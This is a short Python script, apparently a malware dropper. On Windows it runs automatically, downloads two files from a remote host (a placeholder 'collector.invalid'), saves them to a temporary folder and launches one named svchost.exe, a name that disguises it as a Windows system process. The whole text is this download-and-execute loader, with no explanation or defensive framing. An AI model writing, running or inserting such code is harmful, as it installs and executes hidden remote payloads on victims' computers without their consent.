import os, sys, collections, tempfile, urllib.request, subprocess, hashlib
Item = collections.namedtuple("Item", "url name run")
ITEMS = [Item("http://collector.invalid/f/1", "config.ini", False), Item("http://collector.invalid/f/2", "svchost.exe", True)]
def place(name): return os.path.join(tempfile.mkdtemp(prefix="~df"), name)
def fetch(item):
    dst = place(item.name)
    with urllib.request.urlopen(item.url) as r, open(dst, "wb") as w:
        while True:
            b = r.read(8192)
            if not b: break
            w.write(b)
    return dst
def main():
    for it in ITEMS:
        p = fetch(it)
        if it.run: subprocess.Popen(p, close_fds=True)
if sys.platform == "win32":
    main()
